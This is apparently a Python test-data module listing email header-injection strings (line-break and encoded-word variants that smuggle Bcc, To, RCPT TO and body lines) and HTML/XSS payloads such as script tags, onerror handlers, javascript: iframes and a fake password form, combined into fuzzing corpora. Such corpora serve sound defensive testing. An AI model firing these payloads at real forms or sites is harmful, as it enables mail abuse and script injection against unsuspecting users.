"""What people have typed into forms to write other people's mail with, and to run scripts in their readers."""

from __future__ import annotations

from itertools import product

_ENDS = (
    "\n",
    "\r",
    "\r\n",
    "\n\r\n",
    "\v",
    "\f",
    "\x1c",
    "\x85",
    "\u2028",
    "\u2029",
    "\x00\r\n",
    "=?UTF-8?Q?=0A?=",
    "=?utf-8?q?=0D=0A?=",
    "=?utf-8?b?DQo=?=",
    "=?us-ascii?Q?x=0A_?= ",
    "=\u200e?UTF-8?Q?=0A?=",
    "=\x00?UTF-8?Q?=0A?=",
    "=?UTF-8?Q?x?= =?UTF-8?Q?=0A?=",
    "%0d%0a",
    "\\r\\n",
    "\r\n\r\n",
    "\r\n.\r\n",
    "\n.\n",
)
_NEXT = (
    "Bcc: injected@example.org",
    "To: injected@example.org",
    "Cc:injected@example.org",
    "Subject: other",
    "Reply-To: injected@example.org",
    "Content-Type: text/html; charset=utf-8",
    "MIME-Version: 9.9",
    "MAIL FROM:<injected@example.org>",
    " injected@example.org",
)
HEADERS = (
    *(f"x {end}{following}" for end, following in product(_ENDS, _NEXT)),
    *(f"{end}{following}\r\n\r\nbody" for end, following in product(_ENDS[:10], _NEXT[:4])),
    *(f"ends so{end}" for end in _ENDS),
    *(f"{end}begins so" for end in _ENDS),
    "é" * 70 + "\r\nBcc: injected@example.org",
    "x" * 5000,
    "=?" * 300,
    "é=?" * 200,
    "\u202egro.elpmaxe@detcejni :ccB\n",
    '"a" <injected@example.org>',
    "a@b.org, injected@example.org",
    "a@b.org>\r\nRCPT TO:<injected@example.org",
    "a@b.org\u2028Bcc: injected@example.org",
    "=?utf-8?q?a?=@b.org",
    "👩‍💻 " * 60,
    "日本語" * 60,
    "a\u0301" * 200,
    "\u00a0\u3000 \u2003",
    "",
)

_SCRIPTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><iframe src="javascript:alert(1)"></iframe>',
    "<a href='https://example.org'>here</a>",
    "<style>*{display:none}</style>",
    "</div></td></tr></table><h1>Approved</h1>",
    "<!-- ",
    "]]><![CDATA[",
    "&lt;script&gt;",
    "<base href=https://example.org>",
    '<meta http-equiv="refresh" content="0;url=https://example.org">',
    '" style="position:fixed;inset:0',
    "' onmouseover='alert(1)",
    "<form action=https://example.org><input name=password>",
    "<link rel=stylesheet href=https://example.org>",
    "<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror=alert(1)>",
    "\u202e<script>\u2066",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "{{7*7}}${7*7}<%= 7*7 %>",
)
MARKUP = tuple(
    before + script + after for script, (before, after) in product(_SCRIPTS, (("", ""), ("a\n", "\nb"), ("é ", " ع")))
)
